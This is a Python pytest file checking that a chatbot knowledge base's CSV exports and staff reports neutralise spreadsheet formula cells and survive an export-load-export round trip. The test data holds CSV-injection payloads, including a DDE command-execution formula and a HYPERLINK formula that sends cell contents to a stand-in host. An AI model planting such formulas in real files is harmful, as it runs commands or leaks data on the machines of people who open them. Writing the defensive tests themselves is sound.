"""CSV files people open in a spreadsheet: no cell runs as a formula (``kb export --format faq-csv|event-csv``,
``report --format csv``), and the escape is undone on load, so export → load into an empty database →
export still gives the same bytes. Database tests run on SQLite and PostgreSQL."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import sqlite3
from collections import Counter

import pytest
from conftest import BACKENDS
from sqlalchemy import select

from bot import cli, report
from bot.feedback.store import record
from bot.kb import models as m
from bot.kb.db import create_schema, get_engine, open_session
from bot.kb.event_csv import EVENT_COLUMNS, export_events
from bot.kb.faq import FAQ_COLUMNS, export_faq_csv
from bot.kb.loader import load_files
from bot.kb.spreadsheet import FORMULA_STARTS, neutralise, restore

PAYLOADS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
QUOTED = ["'=already quoted", "''@twice", "'", "'plain", "-", "＝全角"]  # must survive the round trip too
FORMULA = tuple(FORMULA_STARTS)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def assert_no_formula_cell(rows: list[list[str]]) -> None:
    bad = [cell for row in rows for cell in row if cell.startswith(FORMULA) and not _number(cell)]
    assert not bad, f"cells a spreadsheet would run as formulas: {bad!r}"


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.lstrip("+-").replace(".", "", 1).isdigit()


@pytest.fixture(params=BACKENDS)
def two_empty_dbs(request, databases):
    """Two new, empty databases of one backend (the source and the target of a round trip)."""
    urls = [databases.new(request.param) for _ in range(2)]
    for url in urls:
        create_schema(get_engine(url))
    yield urls
    for url in urls:
        databases.drop(url)


# -- the escape ------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", PAYLOADS + QUOTED)
def test_neutralise_prefixes_one_quote_and_restore_removes_it(text):
    escaped = neutralise(text)
    assert not escaped.startswith(FORMULA)
    assert restore(escaped) == text
    assert escaped == ("'" + text if text.lstrip("'").startswith(FORMULA) else text)


@pytest.mark.parametrize("number", ["-35.6", "-1", "+81", "0", "139.69"])
def test_plain_numbers_stay_as_they_are(number):
    assert neutralise(number) == number == restore(number)


# -- FAQ CSV ----------------------------------------------------------------------------------------

def _faq(question: str, answer: str, **other) -> m.FaqEntry:
    return m.FaqEntry(lg_code=None, category=other.pop("category", "税"), question=question, answer=answer,
                      alternatives=other.pop("alternatives", ""), department=other.pop("department", ""),
                      phone="", url="", source="test.csv")


def test_faq_export_neutralises_formula_cells(two_empty_dbs):
    url, _ = two_empty_dbs
    with open_session(url) as session:
        session.add_all(_faq(p, p, category=p, alternatives=p, department=p) for p in PAYLOADS)
        session.commit()
        text = export_faq_csv(session)
    rows = cells(text)
    assert rows[0] == FAQ_COLUMNS
    assert_no_formula_cell(rows)
    written = {cell for row in rows[1:] for cell in row}
    assert {"'" + p for p in PAYLOADS} <= written
    assert not any(p in written for p in PAYLOADS)


def test_faq_export_load_export_is_identical_with_formula_texts(two_empty_dbs, tmp_path):
    """FAQ texts never start with a CR (the reader turns line ends into LF), so "\\r=1" is left out here."""
    source, target = two_empty_dbs
    texts = [p for p in PAYLOADS if not p.startswith("\r")] + QUOTED
    with open_session(source) as session:
        session.add_all(_faq(t, t, alternatives=f"{t.strip()}別|別表現", department=t) for t in texts)
        session.commit()
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    assert cli.main(["--db", source, "kb", "export", "--format", "faq-csv", "--out", str(first)]) == 0
    assert cli.main(["--db", target, "kb", "load", str(first)]) == 0
    assert cli.main(["--db", target, "kb", "export", "--format", "faq-csv", "--out", str(second)]) == 0
    assert first.read_bytes() == second.read_bytes()
    with open_session(target) as session:
        loaded = {e.question: (e.answer, e.alternatives, e.department) for e in session.scalars(select(m.FaqEntry))}
    assert loaded == {t: (t, f"{t.strip()}別|別表現", t) for t in texts}


# -- イベント一覧 CSV -----------------------------------------------------------------------------------

def _assembly(number: int, text: str) -> m.Assembly:
    a = m.Assembly(number=number, name=text, name_kana="", start_date=dt.date(2019, 2, 6), end_date=dt.date(2019, 2, 6),
                   description=text, venue=f"会場{number}", address=text, organizer=text, url="", source="test")
    a.event_fields = [m.AssemblyEventField(column="備考", value=text),
                      m.AssemblyEventField(column="緯度", value="-35.6"),
                      m.AssemblyEventField(column="経度", value="-139.7"),
                      m.AssemblyEventField(column="料金(基本)", value="-")]
    return a


def test_event_csv_export_neutralises_formula_cells_but_not_numbers(two_empty_dbs):
    url, _ = two_empty_dbs
    with open_session(url) as session:
        session.add_all(_assembly(n, p) for n, p in enumerate(PAYLOADS, start=1))
        session.commit()
        rows = cells(export_events(session))
    assert rows[0] == EVENT_COLUMNS
    assert_no_formula_cell(rows)
    col = {name: i for i, name in enumerate(EVENT_COLUMNS)}
    for row, payload in zip(rows[1:], PAYLOADS):
        for name in ("イベント名", "説明", "住所", "主催者", "備考"):
            assert row[col[name]] == "'" + payload, name
        assert (row[col["緯度"]], row[col["経度"]], row[col["料金(基本)"]]) == ("-35.6", "-139.7", "'-")


def test_event_csv_export_load_export_is_identical_with_formula_texts(two_empty_dbs, tmp_path):
    source, target = two_empty_dbs
    texts = PAYLOADS + QUOTED
    with open_session(source) as session:
        session.add_all(_assembly(n, t) for n, t in enumerate(texts, start=1))
        session.commit()
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    assert cli.main(["--db", source, "kb", "export", "--format", "event-csv", "--out", str(first)]) == 0
    assert load_files([first], target) == {"events": len(texts)}
    assert cli.main(["--db", target, "kb", "export", "--format", "event-csv", "--out", str(second)]) == 0
    assert first.read_bytes() == second.read_bytes()
    with open_session(target) as session:
        loaded = {a.number: (a.name, a.description, a.organizer) for a in session.scalars(select(m.Assembly))}
    assert loaded == {n: (t, t, t) for n, t in enumerate(texts, start=1)}


# -- the staff report -----------------------------------------------------------------------------

def test_report_csv_neutralises_questions_intents_and_channels():
    r = report.Report(since=None, channel=None)
    r.groups = [report.Group(example=p, count=1) for p in PAYLOADS]
    r.intents = Counter({p: 1 for p in PAYLOADS})
    r.channels = Counter({p: 1 for p in PAYLOADS})
    rows = cells(report.render_csv(r))
    assert_no_formula_cell(rows)
    for kind in ("未回答・👎の質問", "意図", "チャネル"):
        assert sorted(row[1] for row in rows if row[0] == kind) == sorted("'" + p for p in PAYLOADS), kind


def test_report_cli_csv_of_a_store_with_hostile_texts_and_channel(tmp_path, capsys):
    """Anonymous residents' texts and a client-supplied input_channel reach the report as they were typed."""
    tracker = tmp_path / "tracker.sqlite3"
    with sqlite3.connect(tracker) as conn:
        conn.execute("CREATE TABLE events (id INTEGER PRIMARY KEY, sender_id TEXT, type_name TEXT, timestamp REAL,"
                     " intent_name TEXT, action_name TEXT, data TEXT)")
        for i, payload in enumerate(PAYLOADS):
            data = json.dumps({"text": payload, "input_channel": "=HYPERLINK(\"http://x.example/?\"&A1)"})
            conn.execute("INSERT INTO events (sender_id, type_name, timestamp, intent_name, action_name, data)"
                         " VALUES (?, 'user', ?, ?, NULL, ?)", (f"s{i}", 1.7e9 + i, "@intent", data))
    feedback_db = f"sqlite:///{tmp_path / 'kb.sqlite3'}"
    record(sender_id="s9", channel="-1+2", question='@WEBSERVICE("http://x.example/")', answer="a", intent="x",
           confidence=0.5,
           source="", rating="bad", url=feedback_db)
    out = tmp_path / "report.csv"
    assert cli.main(["--db", feedback_db, "report", "--tracker-db", f"sqlite:///{tracker}", "--format", "csv",
                     "--out", str(out)]) == 0
    rows = cells(out.read_text(encoding="utf-8"))
    assert_no_formula_cell(rows)
    written = {restore(cell) for row in rows for cell in row}
    assert {p.strip() for p in PAYLOADS} | {
        '@WEBSERVICE("http://x.example/")', "@intent", "=HYPERLINK(\"http://x.example/?\"&A1)"} <= written
    assert capsys.readouterr().err == ""


def test_report_csv_of_a_message_with_a_nul_character():
    """The csv module refuses to write NUL; a resident's message may hold one (the knowledge base cannot)."""
    r = report.Report(since=None, channel=None)
    r.groups = [report.Group(example="=1\x00+2", count=1)]
    rows = cells(report.render_csv(r))
    assert ["未回答・👎の質問", "'=1\ufffd+2", "1", "👎0"] in rows
